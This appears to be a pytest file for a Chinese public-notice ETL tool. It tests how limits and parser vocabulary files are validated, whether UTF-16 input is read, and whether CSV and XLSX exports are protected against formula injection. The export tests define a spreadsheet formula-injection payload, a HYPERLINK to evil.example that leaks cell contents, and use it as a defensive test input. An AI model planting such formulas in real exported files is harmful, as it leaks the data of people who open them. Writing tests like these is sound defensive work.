"""Settings checked before a run (limits, the parsers/ vocabulary), UTF-16 text,
and exports that cannot carry a live formula out of a notice."""
from __future__ import annotations

import csv
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
import hostile

from minsheng_etl import limits
from minsheng_etl.pipeline import parse_record
from minsheng_etl.profiles import parsers_dir

ETL = [str(Path(sys.executable).parent / "etl")]


def etl(*args, env=None, timeout=300) -> subprocess.CompletedProcess:
    return subprocess.run(ETL + [str(a) for a in args], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})


# --- item 7: limits are positive finite numbers ------------------------------------

@pytest.mark.parametrize("name, raw", [("MINSHENG_MAX_UNZIPPED_MB", "nan"), ("MINSHENG_MAX_SECONDS", "-1"),
                                       ("MINSHENG_MAX_SECONDS", "inf"), ("MINSHENG_MAX_FILE_MB", "0"),
                                       ("MINSHENG_MAX_PAGES", "2.5"), ("MINSHENG_MAX_MEMORY_MB", "lots")])
def test_a_limit_that_is_not_a_positive_finite_number_is_refused(monkeypatch, name, raw):
    monkeypatch.setenv(name, raw)
    with pytest.raises(ValueError, match=name):
        limits.Limits.from_env()


def test_limits_accept_any_spelling_of_a_positive_number(monkeypatch):
    monkeypatch.setenv("MINSHENG_MAX_PAGES", "1e3")
    monkeypatch.setenv("MINSHENG_MAX_SECONDS", "0.5")
    monkeypatch.setenv("MINSHENG_MAX_UNZIPPED_MB", " 2E2 ")
    got = limits.Limits.from_env()
    assert (got.max_pages, got.max_seconds, got.max_unzipped_mb) == (1000, 0.5, 200.0)
    assert isinstance(got.max_pages, int)


@pytest.mark.parametrize("command", ["ingest", "rebuild", "inspect"])
def test_the_cli_stops_before_reading_on_a_bad_limit(tmp_path, command):
    (tmp_path / "good.txt").write_text(hostile.good_text(), encoding="utf-8")
    args = {"ingest": ["ingest", tmp_path / "good.txt", "--db", tmp_path / "m.duckdb", "--raw", tmp_path / "raw"],
            "rebuild": ["rebuild", "--db", tmp_path / "m.duckdb", "--raw", tmp_path / "raw"],
            "inspect": ["inspect", tmp_path / "good.txt"]}[command]
    proc = etl(*args, env={"MINSHENG_MAX_SECONDS": "inf"})
    assert proc.returncode == 2 and "MINSHENG_MAX_SECONDS='inf'" in proc.stderr and "Traceback" not in proc.stderr
    assert not (tmp_path / "m.duckdb").exists()


def test_nested_time_limits_keep_the_outer_deadline():
    import time

    with pytest.raises(limits.TimeLimitExceeded):
        with limits.time_limit(0.3):
            with limits.time_limit(10):  # ends before the outer deadline: must not switch it off
                pass
            time.sleep(2)


# --- item 8: a broken parsers/ folder is one error at start ---------------------------

@pytest.fixture
def parsers_copy(tmp_path):
    folder = tmp_path / "parsers"
    folder.mkdir()
    for f in parsers_dir().iterdir():
        (folder / f.name).write_bytes(f.read_bytes())
    return folder


@pytest.mark.parametrize("file, text, where", [
    ("columns.toml", "[fields]\ncontent = [\"任务\"\n= oops\n", "columns.toml: line 3, column 1"),
    ("status.toml", "completed = [\"已完成\"]\nnot a key\n", "status.toml: line 2, column 5"),
    ("regions.tsv", "110000\t北京市\n110115 大兴区\n", "regions.tsv: line 2, column 1"),
    ("quantities.toml", None, "quantities.toml: cannot read it"),
])
def test_a_broken_vocabulary_stops_the_run_naming_the_file_line_and_column(tmp_path, parsers_copy, file, text,
                                                                          where):
    if text is None:
        (parsers_copy / file).unlink()
    else:
        (parsers_copy / file).write_text(text, encoding="utf-8")
    (tmp_path / "good.txt").write_text(hostile.good_text(), encoding="utf-8")
    proc = etl("ingest", tmp_path / "good.txt", "--db", tmp_path / "m.duckdb", "--raw", tmp_path / "raw",
               env={"MINSHENG_PARSERS": parsers_copy})
    assert proc.returncode == 2 and where in proc.stderr, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
    assert not (tmp_path / "m.duckdb").exists()


# --- item 9: UTF-16 with a byte order mark ------------------------------------------

@pytest.mark.parametrize("encode", [lambda t: t.encode("utf-16"),  # LE with BOM (Notepad's "Unicode")
                                    lambda t: b"\xfe\xff" + t.encode("utf-16-be")], ids=["le", "be"])
def test_utf16_text_with_a_bom_is_read(encode):
    record = parse_record(encode(hostile.good_text()), "u16.txt")
    assert record.error is None and record.fmt == "text" and record.tasks == 2


def test_utf16_html_is_read_as_html():
    page = hostile.html_table(rows=3).decode("utf-8")
    record = parse_record(page.encode("utf-16"), "u16.html")
    assert record.error is None and record.fmt == "html" and record.tasks == 3


# --- item 10: no formula leaves through an export --------------------------------------

HOSTILE_CELL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture(scope="module")
def formula_warehouse(tmp_path_factory):
    base = tmp_path_factory.mktemp("formula")
    text = hostile.good_text().replace("新增200张养老家庭照护床位。", HOSTILE_CELL).replace("2所已完工。", "+1所@开工")
    (base / "notice.txt").write_text(text, encoding="utf-8")
    proc = etl("ingest", base / "notice.txt", "--db", base / "m.duckdb", "--raw", base / "raw")
    assert proc.returncode == 0, proc.stderr
    return base / "m.duckdb"


def test_xlsx_export_writes_text_cells_as_text(formula_warehouse, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "t.xlsx"
    assert etl("export", "tasks", "-o", out, "--db", formula_warehouse).returncode == 0
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element anywhere
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == HOSTILE_CELL]
    assert cells and all(c.data_type == "s" for c in cells)


def test_csv_export_defuses_formula_like_cells_unless_asked_not_to(formula_warehouse, tmp_path):
    out = tmp_path / "t.csv"
    assert etl("export", "tasks", "-o", out, "--db", formula_warehouse).returncode == 0
    cells = {v for row in csv.reader(out.open(encoding="utf-8-sig")) for v in row}
    assert "'" + HOSTILE_CELL in cells and "'+1所@开工" in cells
    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells)
    assert etl("export", "tasks", "-o", out, "--db", formula_warehouse, "--csv-formulas").returncode == 0
    assert HOSTILE_CELL in {v for row in csv.reader(out.open(encoding="utf-8-sig")) for v in row}
